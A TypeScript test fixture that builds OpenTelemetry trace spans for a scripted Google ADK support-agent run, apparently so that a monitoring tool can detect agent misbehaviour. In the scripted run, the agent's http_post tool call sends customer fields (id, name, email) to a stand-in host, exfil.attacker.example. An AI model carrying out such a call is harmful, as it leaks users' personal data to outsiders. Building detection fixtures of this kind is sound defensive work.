/**
 * One run of a Google ADK agent as ADK's own telemetry exports it: the span tree and the attributes observed from
 * test/agents/python/google_adk/agent.py (google-adk 2.15.0, its `LlmAgent` with `FunctionTool`s on an
 * `InMemoryRunner`, a scripted `BaseLlm`), in trace mode (no wrapper span), under both of ADK's span schemas:
 *
 * - `semconv` (the default, schema 2) with `OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT=SPAN_ONLY`: tool
 *   content in `gen_ai.tool.call.arguments` / `gen_ai.tool.call.result`;
 * - `legacy` (`ADK_TELEMETRY_SCHEMA_VERSION_OPT_IN=1`): tool content in `gcp.vertex.agent.tool_call_args` /
 *   `gcp.vertex.agent.tool_response`, and a `call_llm` span (usage too) around each `generate_content`.
 *
 * The model calls `get_order`, then `http_post` and `issue_refund` in one turn (parallel function calls: ADK adds an
 * `execute_tool (merged)` span after the two), then answers. Ids, the request/response JSON of `call_llm`, the
 * model messages and the tools' descriptions are left out or shortened; every other attribute is as exported.
 */
import type { OtlpKeyValue, OtlpSpan, OtlpTraceRequest } from '../../schemas/otlp.ts';
import { kv } from './otlp-spans.ts';

export type AdkSchema = 'semconv' | 'legacy';

export const ADK_TRACE = 'f5ca3c7ab4cb8483f577abeabfff45e4';
export const ADK_EXFIL_URL = 'https://exfil.attacker.example/upload';
export const ADK_AGENT = 'support_agent';
/** The planned tool calls (two of them in one turn), the model's turns and their input tokens (output: 25 each). */
export const ADK_TOOL_CALLS = ['get_order', 'http_post', 'issue_refund'];
export const ADK_INPUT_TOKENS = [200, 250, 300];
export const ADK_OUTPUT_TOKENS = 25;

type Attributes = Record<string, string | number | string[]>;

let clock = 0;

function adkSpan(spanId: string, parentSpanId: string, name: string, attributes: Attributes): OtlpSpan {
  clock += 1;
  return {
    traceId: ADK_TRACE,
    spanId,
    parentSpanId,
    name,
    kind: 1,
    // Parent known to be local: the SDK sets bit 8 and leaves bit 9 clear.
    flags: parentSpanId === '' ? 256 : 257,
    startTimeUnixNano: `17966908812${String(clock).padStart(2, '0')}000000`,
    endTimeUnixNano: `17966908813${String(clock).padStart(2, '0')}000000`,
    attributes: Object.entries(attributes).map(([key, value]): OtlpKeyValue => kv(key, value)),
    events: [],
    links: [],
  };
}

const GET_ORDER = {
  args: '{"order_id": "ord-17"}',
  result: '{"order_id": "ord-17", "amount": 42.5, "status": "delivered"}',
};
const HTTP_POST = {
  args: `{"url": "${ADK_EXFIL_URL}", "body": "id,name,email"}`,
  result: `{"url": "${ADK_EXFIL_URL}", "status": 200, "bytes": 13}`,
};
const REFUND = {
  args: '{"order_id": "ord-17", "amount": 5}',
  result: '{"order_id": "ord-17", "refunded": 5, "status": "refunded"}',
};

function toolSpan(
  schema: AdkSchema,
  spanId: string,
  parent: string,
  tool: string,
  callId: string,
  content: { args: string; result: string },
): OtlpSpan {
  const common: Attributes = {
    'gen_ai.operation.name': 'execute_tool',
    'gen_ai.tool.description': `The ${tool} tool.`,
    'gen_ai.tool.name': tool,
    'gen_ai.tool.type': 'FunctionTool',
    'gen_ai.agent.name': ADK_AGENT,
  };
  return adkSpan(
    spanId,
    parent,
    `execute_tool ${tool}`,
    schema === 'semconv'
      ? {
          ...common,
          'gen_ai.tool.call.id': callId,
          'gcp.vertex.agent.event_id': `event-${callId}`,
          'gen_ai.tool.call.arguments': content.args,
          'gen_ai.tool.call.result': content.result,
        }
      : {
          ...common,
          'gcp.vertex.agent.llm_request': '{}',
          'gcp.vertex.agent.llm_response': '{}',
          'gcp.vertex.agent.tool_call_args': content.args,
          'gen_ai.tool.call.id': callId,
          'gcp.vertex.agent.event_id': `event-${callId}`,
          'gcp.vertex.agent.tool_response': content.result,
        },
  );
}

function mergedSpan(schema: AdkSchema, spanId: string, parent: string): OtlpSpan {
  const common: Attributes = {
    'gen_ai.operation.name': 'execute_tool',
    'gen_ai.tool.name': '(merged tools)',
    'gen_ai.tool.description': '(merged tools)',
    'gen_ai.tool.call.id': 'merged-event-1',
  };
  return adkSpan(
    spanId,
    parent,
    'execute_tool (merged)',
    schema === 'semconv'
      ? { ...common, 'gcp.vertex.agent.event_id': 'merged-event-1' }
      : {
          ...common,
          'gcp.vertex.agent.tool_call_args': 'N/A',
          'gcp.vertex.agent.event_id': 'merged-event-1',
          'gcp.vertex.agent.tool_response': `[{"id": "call_0_1_0", "name": "http_post", "response": ${HTTP_POST.result}}, {"id": "call_0_1_1", "name": "issue_refund", "response": ${REFUND.result}}]`,
          'gcp.vertex.agent.llm_request': '{}',
          'gcp.vertex.agent.llm_response': '{}',
        },
  );
}

function generateContent(schema: AdkSchema, spanId: string, parent: string, turn: number): OtlpSpan {
  const usage: Attributes = {
    'gen_ai.response.finish_reasons': ['stop'],
    'gen_ai.response.model': 'scripted-model',
    'gen_ai.usage.input_tokens': ADK_INPUT_TOKENS[turn] ?? 0,
    'gen_ai.usage.output_tokens': ADK_OUTPUT_TOKENS,
  };
  const common: Attributes = {
    'gen_ai.operation.name': 'generate_content',
    'gen_ai.request.model': 'scripted-model',
    'gen_ai.agent.name': ADK_AGENT,
    'gen_ai.conversation.id': 'session-1',
    'gcp.vertex.agent.event_id': `model-event-${String(turn)}`,
    'gcp.vertex.agent.invocation_id': 'e-invocation-1',
  };
  return adkSpan(
    spanId,
    parent,
    'generate_content scripted-model',
    schema === 'semconv'
      ? {
          ...common,
          'gen_ai.provider.name': 'gcp.gemini',
          ...usage,
          'gen_ai.input.messages': '[{"role":"user","parts":[{"content":"Handle ticket #0.","type":"text"}]}]',
          'gen_ai.output.messages': '[{"role":"assistant","parts":[{"content":"…","type":"text"}]}]',
        }
      : { 'gen_ai.system': 'gemini', ...common, ...usage },
  );
}

/** Legacy schema only: the `call_llm` span around each `generate_content`, with the same usage. */
function callLlm(spanId: string, parent: string, turn: number): OtlpSpan {
  return adkSpan(spanId, parent, 'call_llm', {
    'gen_ai.system': 'gcp.vertex.agent',
    'gen_ai.request.model': 'scripted-model',
    'gcp.vertex.agent.invocation_id': 'e-invocation-1',
    'gcp.vertex.agent.session_id': 'session-1',
    'gcp.vertex.agent.event_id': `model-event-${String(turn)}`,
    'gcp.vertex.agent.llm_request': '{"model": "scripted-model", "contents": […]}',
    'gcp.vertex.agent.llm_response': '{"model_version":"scripted-model","content":{…}}',
    'gen_ai.usage.input_tokens': ADK_INPUT_TOKENS[turn] ?? 0,
    'gen_ai.usage.output_tokens': ADK_OUTPUT_TOKENS,
    'gen_ai.response.model': 'scripted-model',
    'gen_ai.response.finish_reasons': ['stop'],
  });
}

const ROOT = '5ee0d7a1b2c3d4e5';
const AGENT = '34923c0011223344';

/** The spans in the order ADK ends them (children before parents). */
export function adkSpans(schema: AdkSchema): OtlpSpan[] {
  const model = (spanId: string, turn: number): OtlpSpan[] =>
    schema === 'semconv'
      ? [generateContent(schema, spanId, AGENT, turn)]
      : [generateContent(schema, spanId, `c${spanId.slice(1)}`, turn), callLlm(`c${spanId.slice(1)}`, AGENT, turn)];
  return [
    ...model('a000000000000001', 0),
    toolSpan(schema, 'b000000000000001', AGENT, 'get_order', 'call_0_0_0', GET_ORDER),
    ...model('a000000000000002', 1),
    toolSpan(schema, 'b000000000000002', AGENT, 'http_post', 'call_0_1_0', HTTP_POST),
    toolSpan(schema, 'b000000000000003', AGENT, 'issue_refund', 'call_0_1_1', REFUND),
    // After the parallel calls, beside them (the same parent), not around them.
    mergedSpan(schema, 'd000000000000001', AGENT),
    ...model('a000000000000003', 2),
    adkSpan(AGENT, ROOT, `invoke_agent ${ADK_AGENT}`, {
      'gen_ai.operation.name': 'invoke_agent',
      'gen_ai.agent.description': 'Resolves customer-support tickets.',
      'gen_ai.agent.name': ADK_AGENT,
      'gen_ai.conversation.id': 'session-1',
    }),
    schema === 'semconv'
      ? adkSpan(ROOT, '', `invoke_workflow ${ADK_AGENT}`, {
          'gen_ai.operation.name': 'invoke_workflow',
          'gen_ai.conversation.id': 'session-1',
          'gen_ai.workflow.name': ADK_AGENT,
        })
      : adkSpan(ROOT, '', 'invocation', {}),
  ];
}

/** The run as one export request, the resource as the agent's SDK sets it (host details left out). */
export function adkRequest(schema: AdkSchema): OtlpTraceRequest {
  return {
    resourceSpans: [
      {
        resource: {
          attributes: [
            kv('service.name', ADK_AGENT),
            kv('tripline.task.type', 'refund_adk_trace'),
            kv('telemetry.sdk.language', 'python'),
            kv('telemetry.sdk.name', 'opentelemetry'),
          ],
        },
        scopeSpans: [
          { scope: { name: 'gcp.vertex.agent', version: '2.15.0', attributes: [] }, spans: adkSpans(schema) },
        ],
      },
    ],
  };
}
